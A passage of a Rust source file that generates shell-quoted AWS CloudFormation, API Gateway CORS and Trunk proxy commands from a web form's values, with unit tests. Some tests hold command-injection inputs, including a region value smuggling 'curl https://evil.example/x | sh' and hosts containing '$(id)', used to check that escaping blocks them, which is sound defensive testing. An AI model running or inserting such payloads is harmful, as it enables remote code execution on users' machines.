//! Hosting the app for the values in the form: the commands that make the API callable from the hosted page.
//! Two ways, and the local one:
//! - CloudFront in front of the site with the same-origin proxy routes (`deploy/cloudfront.yaml`);
//! - CORS on the REST API itself (an `OPTIONS` method, Gateway Responses, a redeploy), so it can be called direct;
//! - `trunk serve`'s `[[proxy]]` block for local work (see `proxy::trunk_proxy_block`).
//!
//! Pure text: nothing here runs a command. Every value is validated (region, API id, stage, host, stack name) and
//! shell-quoted where it lands in a command, TOML-escaped where it lands in Trunk.toml, and every comment line —
//! an error included — is one line whatever the text in it: a value from a share link cannot end the comment.

use std::fmt;

use crate::whatwg_url::Url;

use crate::core::proxy::{self, ProxyError};
use crate::core::settings::check_region;

/// The stack name the generated commands use when the caller has no better one.
pub const DEFAULT_STACK_NAME: &str = "cognito-api-tester";
/// The template, relative to the project root (where `make deploy` runs).
pub const TEMPLATE_FILE: &str = "deploy/cloudfront.yaml";
/// Where the form cannot know a value: the user replaces it (the command fails while it is there).
pub const RESOURCE_ID_PLACEHOLDER: &str = "<resource-id>";

/// CloudFormation allows 128, but the template names a CloudFront Function `<stack>-strip-prefix` (at most 64).
const MAX_STACK_NAME: usize = 50;
const CORS_ALLOW_HEADERS: &str =
    "Authorization,Content-Type,X-Amz-Date,X-Api-Key,X-Amz-Security-Token";
const CORS_ALLOW_METHODS: &str = "OPTIONS,GET,HEAD,POST,PUT,PATCH,DELETE";

/// The form's values that hosting needs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct HostingValues<'a> {
    /// The resolved token endpoint, `https://<domain>/oauth2/token`.
    pub token_url: &'a str,
    /// The API URL as typed, `https://<api-id>.execute-api.<region>.amazonaws.com/<stage>/<resource>`.
    pub api_url: &'a str,
    /// The Region field: the user pool's region. May be empty.
    pub region: &'a str,
}

/// What an execute-api URL says about the REST API behind it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ExecuteApi {
    pub api_id: String,
    pub region: String,
    /// The first path segment: REST API URLs carry the stage there.
    pub stage: String,
    /// The path after the stage (`/pets/42`), at least `/`.
    pub resource_path: String,
}

#[derive(Clone, Debug, PartialEq)]
pub enum HostingError {
    /// A URL field is not a URL the proxy can use.
    BadUrl {
        field: &'static str,
        error: ProxyError,
    },
    /// CloudFront origins and API Gateway speak HTTPS only.
    NotHttps {
        field: &'static str,
        url: String,
    },
    /// A custom domain (or any other host): the API id, region and stage are not in the URL.
    NotExecuteApi {
        host: String,
    },
    /// An execute-api URL without the stage segment.
    NoStage {
        api_url: String,
    },
    BadRegion(String),
    BadStackName(String),
    /// A token endpoint host that is not a plain DNS name (what the template's CognitoDomain accepts).
    BadDomain(String),
}

impl fmt::Display for HostingError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            HostingError::BadUrl { field, error } => write!(f, "{field}: {error}"),
            HostingError::NotHttps { field, url } => write!(
                f,
                "The {field} {url} is not https://. CloudFront and API Gateway only work over HTTPS; \
                 http:// is for the local emulator, where `make serve` and the Trunk.toml proxy block do the job."
            ),
            HostingError::NotExecuteApi { host } => write!(
                f,
                "The API URL's host {host} is not an execute-api host \
                 (https://<api-id>.execute-api.<region>.amazonaws.com/<stage>/…), so the API id, region and stage \
                 cannot be read from it — a custom domain hides them. Fill them in by hand: \
                 `aws apigateway get-base-path-mappings --domain-name {host}` shows the restApiId and stage behind \
                 the domain, and the region is the one the API lives in. Use them for ApiId=, Region= and Stage= \
                 (and --rest-api-id, --region, --stage-name in the CORS commands). Through the CloudFront proxy the \
                 app calls the execute-api host, so use the execute-api URL (with the stage) as the API URL."
            ),
            HostingError::NoStage { api_url } => write!(
                f,
                "The API URL {api_url} has no stage. REST API URLs look like \
                 https://<api-id>.execute-api.<region>.amazonaws.com/<stage>/<resource>: add the stage (e.g. /dev/). \
                 Without it API Gateway answers 403 Missing Authentication Token."
            ),
            HostingError::BadRegion(region) => write!(
                f,
                "\"{region}\" is not an AWS region name (like us-east-1): correct the Region field."
            ),
            HostingError::BadDomain(host) => write!(
                f,
                "The token endpoint's host \"{host}\" is not a plain host name (lowercase letters, digits, dots and \
                 hyphens, like my-pool.auth.us-east-1.amazoncognito.com): correct the Domain field."
            ),
            HostingError::BadStackName(name) => write!(
                f,
                "\"{name}\" cannot be the stack name: start with a letter, then letters, digits and hyphens, \
                 at most {MAX_STACK_NAME} characters (CloudFront names made from it are limited)."
            ),
        }
    }
}

/// Reads the API id, region, stage and resource path from an execute-api URL.
pub fn execute_api(api_url: &str) -> Result<ExecuteApi, HostingError> {
    let url = parse_url("API URL", api_url)?;
    let host = url.host_str().unwrap_or_default();
    let not_execute_api = || HostingError::NotExecuteApi {
        host: host.to_owned(),
    };
    let labels: Vec<&str> = host
        .strip_suffix(".amazonaws.com")
        .ok_or_else(not_execute_api)?
        .split('.')
        .collect();
    let (api_id, region) = match labels.as_slice() {
        [api_id, "execute-api", region]
            if !api_id.is_empty()
                && api_id
                    .chars()
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit()) =>
        {
            (*api_id, *region)
        }
        _ => return Err(not_execute_api()),
    };
    check_region(region).map_err(|_| not_execute_api())?;
    require_https("API URL", &url)?;
    let no_stage = || HostingError::NoStage {
        api_url: api_url.trim().to_owned(),
    };
    let stage = url
        .path_segments()
        .and_then(|mut segments| segments.next())
        .filter(|s| {
            !s.is_empty()
                && s.chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
        })
        .ok_or_else(no_stage)?;
    let rest = url
        .path()
        .strip_prefix('/')
        .and_then(|p| p.strip_prefix(stage))
        .unwrap_or_default();
    let resource_path = if rest.is_empty() { "/" } else { rest };
    Ok(ExecuteApi {
        api_id: api_id.to_owned(),
        region: region.to_owned(),
        stage: stage.to_owned(),
        resource_path: resource_path.to_owned(),
    })
}

/// The one `aws cloudformation deploy` command that creates or updates the CloudFront stack for these values.
pub fn cloudformation_deploy_command(
    values: &HostingValues<'_>,
    stack_name: &str,
) -> Result<String, HostingError> {
    check_stack_name(stack_name)?;
    let api = execute_api(values.api_url)?;
    let token = parse_url("token endpoint", values.token_url)?;
    require_https("token endpoint", &token)?;
    let domain = token.host_str().unwrap_or_default();
    check_domain(domain)?;
    let pool_region = pool_region(values)?.unwrap_or_else(|| api.region.clone());
    let mut words = vec![
        "aws".to_owned(),
        "cloudformation".to_owned(),
        "deploy".to_owned(),
        "--template-file".to_owned(),
        TEMPLATE_FILE.to_owned(),
        "--stack-name".to_owned(),
        stack_name.to_owned(),
        "--region".to_owned(),
        api.region.clone(),
        "--no-fail-on-empty-changeset".to_owned(),
        "--parameter-overrides".to_owned(),
        format!("CognitoDomain={domain}"),
        format!("Region={}", api.region),
        format!("ApiId={}", api.api_id),
        format!("Stage={}", api.stage),
    ];
    if pool_region != api.region {
        words.push(format!("CognitoRegion={pool_region}"));
    }
    Ok(command(&words))
}

/// The CloudFront way end to end: comments, the stack, its outputs, and the upload.
pub fn cloudfront_setup_script(
    values: &HostingValues<'_>,
    stack_name: &str,
) -> Result<String, HostingError> {
    let deploy = cloudformation_deploy_command(values, stack_name)?;
    let api = execute_api(values.api_url)?;
    let outputs = command(&[
        "aws",
        "cloudformation",
        "describe-stacks",
        "--stack-name",
        stack_name,
        "--region",
        &api.region,
        "--query",
        "Stacks[0].Outputs",
        "--output",
        "table",
    ]);
    let upload = command(&[
        "make",
        "deploy",
        "BUCKET=<BucketName output>",
        "PUBLIC_URL=<SiteUrl output>",
    ]);
    Ok(format!(
        "# CloudFront in front of the app, with /proxy/token, /proxy/api and /proxy/jwks routes to your pool and API.\n\
         # Run from the project folder; it takes a few minutes the first time.\n\
         {deploy}\n\
         # The outputs name the bucket and the site URL:\n\
         {outputs}\n\
         # Upload the app (replace both placeholders with those outputs), open SiteUrl, tick Route through proxy.\n\
         {upload}\n"
    ))
}

/// The AWS CLI commands that enable CORS on the REST API, so the hosted app can call it without a proxy.
pub fn cors_commands(values: &HostingValues<'_>) -> Result<String, HostingError> {
    let api = execute_api(values.api_url)?;
    let on_api = |args: &[&str]| {
        let mut words = vec!["aws", "apigateway"];
        words.extend_from_slice(args.get(..1).unwrap_or_default());
        words.extend_from_slice(&["--rest-api-id", &api.api_id, "--region", &api.region]);
        words.extend_from_slice(args.get(1..).unwrap_or_default());
        command(&words)
    };
    let on_options = |args: &[&str]| {
        let mut words = args.get(..1).unwrap_or_default().to_vec();
        words.extend_from_slice(&[
            "--resource-id",
            RESOURCE_ID_PLACEHOLDER,
            "--http-method",
            "OPTIONS",
        ]);
        words.extend_from_slice(args.get(1..).unwrap_or_default());
        on_api(&words)
    };
    let header = |name: &str| format!("method.response.header.Access-Control-Allow-{name}");
    let declared = serde_json::json!({
        header("Headers"): false,
        header("Methods"): false,
        header("Origin"): false,
    })
    .to_string();
    let answered = serde_json::json!({
        header("Headers"): static_value(CORS_ALLOW_HEADERS),
        header("Methods"): static_value(CORS_ALLOW_METHODS),
        header("Origin"): static_value("*"),
    })
    .to_string();
    let mock_template =
        serde_json::json!({ "application/json": "{\"statusCode\": 200}" }).to_string();
    let gateway_origin =
        serde_json::json!({ "gatewayresponse.header.Access-Control-Allow-Origin": static_value("*") })
            .to_string();
    let gateway_response = |kind: &str| {
        on_api(&[
            "put-gateway-response",
            "--response-type",
            kind,
            "--response-parameters",
            &gateway_origin,
        ])
    };
    let lines = [
        format!(
            "# CORS on REST API {} ({}), stage {}, so the app can call it direct from any origin.",
            api.api_id, api.region, api.stage
        ),
        format!(
            "# The form cannot know {RESOURCE_ID_PLACEHOLDER}: it is the id of the resource for {} \
             (or its template, e.g. /pets/{{id}}). Replace it in the commands below; this lists them:",
            api.resource_path
        ),
        on_api(&["get-resources", "--query", "items[].[id,path]", "--output", "text"]),
        comment("1. Answer the browser's preflight: OPTIONS without authorizer, a MOCK integration with the headers."),
        on_options(&["put-method", "--authorization-type", "NONE"]),
        on_options(&[
            "put-method-response",
            "--status-code",
            "200",
            "--response-parameters",
            &declared,
        ]),
        on_options(&[
            "put-integration",
            "--type",
            "MOCK",
            "--request-templates",
            &mock_template,
        ]),
        on_options(&[
            "put-integration-response",
            "--status-code",
            "200",
            "--response-parameters",
            &answered,
        ]),
        comment("2. CORS on API Gateway's own answers (401 Unauthorized, 403 Missing Authentication Token, 5xx):"),
        comment("   without it the browser hides their status and body from the app."),
        gateway_response("DEFAULT_4XX"),
        gateway_response("DEFAULT_5XX"),
        comment("3. Your method's own responses need Access-Control-Allow-Origin too: a Lambda proxy integration"),
        comment("   returns it itself; otherwise add it to the method's integration response like the OPTIONS one"),
        comment("   (and Access-Control-Expose-Headers for any response header the app should read)."),
        comment("4. Redeploy the stage: changes take effect only then."),
        on_api(&["create-deployment", "--stage-name", &api.stage]),
        comment("An HTTP API configures CORS with `aws apigatewayv2 update-api --cors-configuration` instead."),
    ];
    Ok(lines.join("\n") + "\n")
}

/// The Trunk.toml `[[proxy]]` block for `make serve`, with the JWKS route when the pool's region is known.
pub fn trunk_proxy_config(values: &HostingValues<'_>) -> Result<String, HostingError> {
    parse_url("token endpoint", values.token_url)?;
    parse_url("API URL", values.api_url)?;
    let api_region = execute_api(values.api_url).ok().map(|api| api.region);
    let jwks = pool_region(values)?
        .or(api_region)
        .map(|region| format!("https://cognito-idp.{region}.amazonaws.com/"));
    proxy::trunk_proxy_block(values.token_url, values.api_url, jwks.as_deref()).map_err(|error| {
        HostingError::BadUrl {
            field: "proxy route",
            error,
        }
    })
}

/// The user pool's region: from a Cognito domain host, else the Region field. `None` when neither says.
fn pool_region(values: &HostingValues<'_>) -> Result<Option<String>, HostingError> {
    let token = parse_url("token endpoint", values.token_url)?;
    let host = token.host_str().unwrap_or_default();
    if let Some(region) = cognito_domain_region(host) {
        check_region(region).map_err(|_| HostingError::BadRegion(region.to_owned()))?;
        return Ok(Some(region.to_owned()));
    }
    let field = values.region.trim();
    if field.is_empty() {
        return Ok(None);
    }
    check_region(field).map_err(|_| HostingError::BadRegion(field.to_owned()))?;
    Ok(Some(field.to_owned()))
}

/// `<prefix>.auth.<region>.amazoncognito.com` (or `auth-fips`) → the region.
fn cognito_domain_region(host: &str) -> Option<&str> {
    let labels: Vec<&str> = host
        .strip_suffix(".amazoncognito.com")?
        .split('.')
        .collect();
    match labels.as_slice() {
        [_, "auth" | "auth-fips", region] => Some(region),
        _ => None,
    }
}

fn parse_url(field: &'static str, text: &str) -> Result<Url, HostingError> {
    let bad = |error| HostingError::BadUrl { field, error };
    proxy::backend_origin(text).map_err(bad)?;
    Url::parse(text.trim()).map_err(|_| bad(ProxyError::NotAUrl(text.trim().to_owned())))
}

fn require_https(field: &'static str, url: &Url) -> Result<(), HostingError> {
    if url.scheme() == "https" {
        Ok(())
    } else {
        Err(HostingError::NotHttps {
            field,
            url: url.to_string(),
        })
    }
}

/// What the template's CognitoDomain parameter accepts: a lowercase DNS name. The URL parser lets through
/// characters such as `$`, `;` or `*` in a host, which are not host names anyone can register.
fn check_domain(host: &str) -> Result<(), HostingError> {
    let valid = !host.is_empty()
        && host
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '.' || c == '-')
        && !host.starts_with(['.', '-'])
        && !host.ends_with(['.', '-']);
    if valid {
        Ok(())
    } else {
        Err(HostingError::BadDomain(host.to_owned()))
    }
}

fn check_stack_name(name: &str) -> Result<(), HostingError> {
    let mut chars = name.chars();
    let valid = chars.next().is_some_and(|c| c.is_ascii_alphabetic())
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '-')
        && name.len() <= MAX_STACK_NAME;
    if valid {
        Ok(())
    } else {
        Err(HostingError::BadStackName(name.to_owned()))
    }
}

/// One shell/TOML comment line, whatever `text` holds: a line break or any other control character (and Unicode's
/// line and paragraph separators) is written as `\u{…}`, so nothing after it can become a command.
pub fn comment(text: &str) -> String {
    let mut line = String::from("# ");
    for c in text.chars() {
        if c.is_control() || matches!(c, '\u{2028}' | '\u{2029}') {
            line.push_str(&c.escape_unicode().to_string());
        } else {
            line.push(c);
        }
    }
    line
}

/// The three copyable blocks of the Proxy setup panel, titled, for these values: a block that cannot be written
/// is its error as one comment line (see `comment`).
pub fn setup_blocks(values: &HostingValues<'_>, stack_name: &str) -> [(&'static str, String); 3] {
    let text =
        |r: Result<String, HostingError>| r.unwrap_or_else(|e| comment(&e.to_string()) + "\n");
    [
        (
            "Trunk.toml [[proxy]] block (local: make serve)",
            text(trunk_proxy_config(values)),
        ),
        (
            "CloudFront proxy (hosted: deploy/cloudfront.yaml)",
            text(cloudfront_setup_script(values, stack_name)),
        ),
        (
            "Enable CORS on the REST API instead",
            text(cors_commands(values)),
        ),
    ]
}

/// API Gateway's static header values are single-quoted strings inside the JSON: `'*'`.
fn static_value(text: &str) -> String {
    format!("'{text}'")
}

/// One shell command line from its words.
fn command<S: AsRef<str>>(words: &[S]) -> String {
    words
        .iter()
        .map(|w| shell_quote(w.as_ref()))
        .collect::<Vec<_>>()
        .join(" ")
}

/// A word for a POSIX shell: as it is when only plain characters, else in single quotes
/// (a `'` inside becomes `'\''`). Nothing in single quotes is expanded: `$`, backquotes, `<`, `*` stay literal.
pub fn shell_quote(word: &str) -> String {
    let plain = !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c));
    if plain {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const TOKEN: &str = "https://my-pool.auth.us-east-1.amazoncognito.com/oauth2/token";
    const API: &str = "https://a1b2c3d4e5.execute-api.us-east-1.amazonaws.com/dev/pets";

    fn values<'a>(token_url: &'a str, api_url: &'a str, region: &'a str) -> HostingValues<'a> {
        HostingValues {
            token_url,
            api_url,
            region,
        }
    }

    /// Splits a command line as a POSIX shell would (single and double quotes, backslashes; no expansions).
    fn shell_words(line: &str) -> Vec<String> {
        let mut words = Vec::new();
        let mut word: Option<String> = None;
        let mut chars = line.chars();
        while let Some(c) = chars.next() {
            match c {
                ' ' | '\t' => words.extend(word.take()),
                '\'' => {
                    let w = word.get_or_insert_with(String::new);
                    for q in chars.by_ref() {
                        if q == '\'' {
                            break;
                        }
                        w.push(q);
                    }
                }
                '"' => {
                    let w = word.get_or_insert_with(String::new);
                    while let Some(q) = chars.next() {
                        match q {
                            '"' => break,
                            '\\' => w.push(chars.next().unwrap()),
                            q => w.push(q),
                        }
                    }
                }
                '\\' => word
                    .get_or_insert_with(String::new)
                    .push(chars.next().unwrap()),
                c => {
                    assert!(
                        !"$`<>|;&(){}*?[]!#~\n".contains(c),
                        "unquoted {c:?} in {line}"
                    );
                    word.get_or_insert_with(String::new).push(c)
                }
            }
        }
        words.extend(word);
        words
    }

    /// The argument after `flag` in a command line's words.
    fn arg<'a>(words: &'a [String], flag: &str) -> &'a str {
        let at = words.iter().position(|w| w == flag).expect(flag);
        &words[at + 1]
    }

    fn aws_lines(script: &str) -> Vec<Vec<String>> {
        script
            .lines()
            .filter(|l| !l.starts_with('#'))
            .map(shell_words)
            .collect()
    }

    #[test]
    fn execute_api_urls() {
        assert_eq!(
            execute_api(API),
            Ok(ExecuteApi {
                api_id: "a1b2c3d4e5".into(),
                region: "us-east-1".into(),
                stage: "dev".into(),
                resource_path: "/pets".into(),
            })
        );
        let root = execute_api(" https://A1B2C3D4E5.execute-api.eu-west-2.amazonaws.com/prod_2/ ")
            .unwrap();
        assert_eq!(
            (
                root.api_id.as_str(),
                root.region.as_str(),
                root.stage.as_str(),
                root.resource_path.as_str()
            ),
            ("a1b2c3d4e5", "eu-west-2", "prod_2", "/")
        );
        let deep = execute_api(
            "https://x1.execute-api.us-gov-west-1.amazonaws.com/v1/pets/42/owner?x=1#f",
        )
        .unwrap();
        assert_eq!(
            (deep.stage.as_str(), deep.resource_path.as_str()),
            ("v1", "/pets/42/owner")
        );
        assert_eq!(
            execute_api("https://x1.execute-api.us-east-1.amazonaws.com/dev")
                .unwrap()
                .resource_path,
            "/"
        );
    }

    #[test]
    fn execute_api_errors() {
        for host in [
            "api.example.com",
            "execute-api.us-east-1.amazonaws.com",
            "a1-vpce-1.execute-api.us-east-1.amazonaws.com",
            "a1.execute-api.us-east-1.vpce.amazonaws.com",
            "a1.execute-api.nowhere.amazonaws.com",
            "a1.execute-api.us-east-1.amazonaws.com.evil.example",
        ] {
            assert_eq!(
                execute_api(&format!("https://{host}/dev/pets")),
                Err(HostingError::NotExecuteApi { host: host.into() }),
                "{host}"
            );
        }
        for url in [
            "https://a1.execute-api.us-east-1.amazonaws.com",
            "https://a1.execute-api.us-east-1.amazonaws.com/",
            "https://a1.execute-api.us-east-1.amazonaws.com//pets",
            "https://a1.execute-api.us-east-1.amazonaws.com/d%20v/pets",
        ] {
            assert_eq!(
                execute_api(url),
                Err(HostingError::NoStage {
                    api_url: url.into()
                }),
                "{url}"
            );
        }
        assert_eq!(
            execute_api("http://a1.execute-api.us-east-1.amazonaws.com/dev"),
            Err(HostingError::NotHttps {
                field: "API URL",
                url: "http://a1.execute-api.us-east-1.amazonaws.com/dev".into()
            })
        );
        assert_eq!(
            execute_api("a1.execute-api.us-east-1.amazonaws.com/dev"),
            Err(HostingError::BadUrl {
                field: "API URL",
                error: ProxyError::NotAUrl("a1.execute-api.us-east-1.amazonaws.com/dev".into())
            })
        );
    }

    #[test]
    fn cloudformation_command_has_every_value() {
        let line =
            cloudformation_deploy_command(&values(TOKEN, API, "us-east-1"), DEFAULT_STACK_NAME)
                .unwrap();
        assert!(!line.contains('\n'));
        assert_eq!(
            line,
            "aws cloudformation deploy --template-file deploy/cloudfront.yaml --stack-name cognito-api-tester \
             --region us-east-1 --no-fail-on-empty-changeset --parameter-overrides \
             CognitoDomain=my-pool.auth.us-east-1.amazoncognito.com Region=us-east-1 ApiId=a1b2c3d4e5 Stage=dev"
        );
        let words = shell_words(&line);
        assert_eq!(arg(&words, "--template-file"), TEMPLATE_FILE);
        assert_eq!(arg(&words, "--stack-name"), "cognito-api-tester");
    }

    #[test]
    fn cloudformation_command_custom_domain_and_other_pool_region() {
        let line = cloudformation_deploy_command(
            &values(
                "https://auth.example.com/oauth2/token",
                "https://zz99.execute-api.eu-central-1.amazonaws.com/prod/",
                "us-west-2",
            ),
            "qa-proxy-2",
        )
        .unwrap();
        let words = shell_words(&line);
        let overrides = &words[words
            .iter()
            .position(|w| w == "--parameter-overrides")
            .unwrap()
            + 1..];
        assert_eq!(
            overrides,
            [
                "CognitoDomain=auth.example.com",
                "Region=eu-central-1",
                "ApiId=zz99",
                "Stage=prod",
                "CognitoRegion=us-west-2"
            ]
        );
        assert_eq!(arg(&words, "--region"), "eu-central-1");
        assert_eq!(arg(&words, "--stack-name"), "qa-proxy-2");
        // The Cognito host's own region wins over an empty Region field.
        let line = cloudformation_deploy_command(
            &values(
                "https://p.auth-fips.us-west-1.amazoncognito.com/oauth2/token",
                API,
                "",
            ),
            "s",
        )
        .unwrap();
        assert!(
            line.ends_with("Region=us-east-1 ApiId=a1b2c3d4e5 Stage=dev CognitoRegion=us-west-1"),
            "{line}"
        );
    }

    #[test]
    fn cloudformation_command_errors() {
        let v = values(TOKEN, API, "");
        for name in ["", "1abc", "a_b", "a b", "a'b", &"a".repeat(51)] {
            assert_eq!(
                cloudformation_deploy_command(&v, name),
                Err(HostingError::BadStackName(name.to_owned()))
            );
        }
        assert!(cloudformation_deploy_command(&v, &"a".repeat(50)).is_ok());
        assert_eq!(
            cloudformation_deploy_command(&values(TOKEN, "https://api.example.com/pets", ""), "s"),
            Err(HostingError::NotExecuteApi {
                host: "api.example.com".into()
            })
        );
        assert_eq!(
            cloudformation_deploy_command(
                &values("http://127.0.0.1:9090/oauth2/token", API, ""),
                "s"
            ),
            Err(HostingError::NotHttps {
                field: "token endpoint",
                url: "http://127.0.0.1:9090/oauth2/token".into()
            })
        );
        assert_eq!(
            cloudformation_deploy_command(
                &values("https://auth.example.com/oauth2/token", API, "Mars-1"),
                "s"
            ),
            Err(HostingError::BadRegion("Mars-1".into()))
        );
    }

    #[test]
    fn cloudfront_script_ends_with_the_upload() {
        let script = cloudfront_setup_script(&values(TOKEN, API, ""), DEFAULT_STACK_NAME).unwrap();
        let lines = aws_lines(&script);
        assert_eq!(lines.len(), 3);
        assert_eq!(lines[0][..3], ["aws", "cloudformation", "deploy"]);
        assert_eq!(lines[1][..3], ["aws", "cloudformation", "describe-stacks"]);
        assert_eq!(arg(&lines[1], "--region"), "us-east-1");
        assert_eq!(
            lines[2],
            [
                "make",
                "deploy",
                "BUCKET=<BucketName output>",
                "PUBLIC_URL=<SiteUrl output>"
            ]
        );
        assert!(script.contains("'BUCKET=<BucketName output>'"));
    }

    #[test]
    fn cors_commands_for_the_api() {
        let script = cors_commands(&values(TOKEN, API, "us-east-1")).unwrap();
        let commands = aws_lines(&script);
        let names: Vec<&str> = commands.iter().map(|w| w[2].as_str()).collect();
        assert_eq!(
            names,
            [
                "get-resources",
                "put-method",
                "put-method-response",
                "put-integration",
                "put-integration-response",
                "put-gateway-response",
                "put-gateway-response",
                "create-deployment"
            ]
        );
        for words in &commands {
            assert_eq!(words[..2], ["aws", "apigateway"]);
            assert_eq!(arg(words, "--rest-api-id"), "a1b2c3d4e5");
            assert_eq!(arg(words, "--region"), "us-east-1");
        }
        for words in &commands[1..5] {
            assert_eq!(arg(words, "--resource-id"), RESOURCE_ID_PLACEHOLDER);
            assert_eq!(arg(words, "--http-method"), "OPTIONS");
        }
        assert!(
            script.contains("--resource-id '<resource-id>'"),
            "placeholder quoted: no redirection"
        );
        assert!(script.contains(
            "# The form cannot know <resource-id>: it is the id of the resource for /pets"
        ));
        assert_eq!(arg(&commands[1], "--authorization-type"), "NONE");
        assert_eq!(arg(&commands[3], "--type"), "MOCK");
        let template: serde_json::Value =
            serde_json::from_str(arg(&commands[3], "--request-templates")).unwrap();
        assert_eq!(template["application/json"], "{\"statusCode\": 200}");
        let declared: serde_json::Value =
            serde_json::from_str(arg(&commands[2], "--response-parameters")).unwrap();
        assert_eq!(
            declared["method.response.header.Access-Control-Allow-Origin"],
            false
        );
        let answered: serde_json::Value =
            serde_json::from_str(arg(&commands[4], "--response-parameters")).unwrap();
        assert_eq!(
            answered["method.response.header.Access-Control-Allow-Origin"],
            "'*'"
        );
        assert_eq!(
            answered["method.response.header.Access-Control-Allow-Headers"],
            "'Authorization,Content-Type,X-Amz-Date,X-Api-Key,X-Amz-Security-Token'"
        );
        assert_eq!(
            answered["method.response.header.Access-Control-Allow-Methods"],
            "'OPTIONS,GET,HEAD,POST,PUT,PATCH,DELETE'"
        );
        for (words, kind) in commands[5..7].iter().zip(["DEFAULT_4XX", "DEFAULT_5XX"]) {
            assert_eq!(arg(words, "--response-type"), kind);
            let params: serde_json::Value =
                serde_json::from_str(arg(words, "--response-parameters")).unwrap();
            assert_eq!(
                params,
                serde_json::json!({"gatewayresponse.header.Access-Control-Allow-Origin": "'*'"})
            );
        }
        assert!(script.contains(r#"--response-parameters '{"gatewayresponse.header.Access-Control-Allow-Origin":"'\''*'\''"}'"#));
        assert_eq!(arg(&commands[7], "--stage-name"), "dev");
        assert!(script
            .lines()
            .next()
            .unwrap()
            .contains("a1b2c3d4e5 (us-east-1), stage dev"));
    }

    #[test]
    fn cors_commands_other_region_and_errors() {
        let script = cors_commands(&values(
            TOKEN,
            "https://q7.execute-api.ap-south-1.amazonaws.com/v2/",
            "",
        ))
        .unwrap();
        for words in aws_lines(&script) {
            assert_eq!(arg(&words, "--region"), "ap-south-1");
            assert_eq!(arg(&words, "--rest-api-id"), "q7");
        }
        assert!(script.contains("--stage-name v2"));
        assert!(script.contains("resource for / "));
        assert_eq!(
            cors_commands(&values(TOKEN, "https://api.example.com/v1/pets", "")),
            Err(HostingError::NotExecuteApi {
                host: "api.example.com".into()
            })
        );
        assert_eq!(
            cors_commands(&values(
                TOKEN,
                "https://q7.execute-api.ap-south-1.amazonaws.com",
                ""
            )),
            Err(HostingError::NoStage {
                api_url: "https://q7.execute-api.ap-south-1.amazonaws.com".into()
            })
        );
    }

    #[test]
    fn trunk_config() {
        let block = trunk_proxy_config(&values(TOKEN, API, "")).unwrap();
        assert_eq!(
            block,
            proxy::trunk_proxy_block(
                TOKEN,
                API,
                Some("https://cognito-idp.us-east-1.amazonaws.com/")
            )
            .unwrap()
        );
        // A custom domain: the JWKS route follows the Region field, else the API's region.
        let custom = "https://auth.example.com/oauth2/token";
        assert!(trunk_proxy_config(&values(custom, API, "eu-west-1"))
            .unwrap()
            .contains("backend = \"https://cognito-idp.eu-west-1.amazonaws.com/\""));
        assert!(trunk_proxy_config(&values(custom, API, ""))
            .unwrap()
            .contains("backend = \"https://cognito-idp.us-east-1.amazonaws.com/\""));
        // Local work: no region known, no JWKS route; http is fine for trunk serve.
        let local = trunk_proxy_config(&values(
            "http://127.0.0.1:9090/oauth2/token",
            "http://127.0.0.1:9090/dev/pets",
            "",
        ))
        .unwrap();
        assert_eq!(local.matches("[[proxy]]").count(), 2);
        assert!(!local.contains("jwks"));
        assert_eq!(
            trunk_proxy_config(&values("nope", API, "")),
            Err(HostingError::BadUrl {
                field: "token endpoint",
                error: ProxyError::NotAUrl("nope".into())
            })
        );
        assert_eq!(
            trunk_proxy_config(&values(TOKEN, "ftp://x/", "")),
            Err(HostingError::BadUrl {
                field: "API URL",
                error: ProxyError::UnsupportedScheme("ftp".into())
            })
        );
        assert_eq!(
            trunk_proxy_config(&values(custom, API, "nowhere")),
            Err(HostingError::BadRegion("nowhere".into()))
        );
    }

    /// Every line of a shell block is a comment or a command whose words `shell_words` accepts (it asserts that no
    /// metacharacter is unquoted, and a quote left open at the end of a line fails here too).
    fn assert_shell_block(block: &str) {
        assert!(block.ends_with('\n'), "{block:?}");
        for line in block.lines() {
            if line.starts_with('#') {
                continue;
            }
            assert_eq!(
                line.matches('\'').count() % 2,
                0,
                "quote open at the end of {line:?}"
            );
            shell_words(line);
        }
    }

    #[test]
    fn a_region_with_a_line_break_stays_in_its_comment() {
        // The issue's case: a share link's Region ends the `# error` line and starts a command.
        let region = "us-east-1\ncurl https://evil.example/x | sh\r\n# ";
        let custom = "https://auth.example.com/oauth2/token";
        let [trunk, cloudfront, cors] =
            setup_blocks(&values(custom, API, region), DEFAULT_STACK_NAME);
        // The CORS commands do not use the Region field (the API's region is in its URL).
        assert_shell_block(&cors.1);
        for (title, block) in [trunk, cloudfront] {
            assert_eq!(block.lines().count(), 1, "{title}: {block:?}");
            assert!(block.starts_with("# \"us-east-1\\u{a}curl https://evil.example/x | sh\\u{d}\\u{a}#\" is not an AWS region"), "{title}: {block:?}");
            assert!(block.ends_with('\n'));
        }
    }

    #[test]
    fn comments_are_one_line_whatever_they_hold() {
        assert_eq!(comment("plain text"), "# plain text");
        assert_eq!(comment("a\nb"), "# a\\u{a}b");
        assert_eq!(
            comment("a\rb\u{2028}c\u{2029}d\u{85}e\u{0}f\u{7f}"),
            "# a\\u{d}b\\u{2028}c\\u{2029}d\\u{85}e\\u{0}f\\u{7f}"
        );
        assert_eq!(comment("é ✓ $(x) `y`"), "# é ✓ $(x) `y`");
    }

    #[test]
    fn a_host_that_is_not_a_dns_name_is_refused() {
        for token in [
            "https://a$(id).example/oauth2/token",
            "https://a;b.example/oauth2/token",
            "https://a*.example/oauth2/token",
            "https://-a.example/oauth2/token",
        ] {
            let v = values(token, API, "");
            let error = cloudformation_deploy_command(&v, "s");
            assert!(
                matches!(
                    error,
                    Err(HostingError::BadDomain(_)) | Err(HostingError::BadUrl { .. })
                ),
                "{token}: {error:?}"
            );
            assert_shell_block(&setup_blocks(&v, "s")[1].1);
        }
        assert!(HostingError::BadDomain("a;b".into())
            .to_string()
            .contains("\"a;b\" is not a plain host name"));
    }

    #[test]
